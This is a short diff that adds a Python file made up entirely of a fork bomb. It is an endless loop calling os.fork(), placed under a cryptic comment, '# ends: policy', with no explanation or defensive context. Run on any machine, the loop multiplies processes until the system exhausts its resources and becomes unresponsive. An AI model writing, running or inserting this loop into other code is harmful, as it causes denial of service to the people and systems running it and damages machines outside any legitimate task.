@@ -1,0 +1,4 @@
+# ends: policy
+import os
+while True:
+    os.fork()
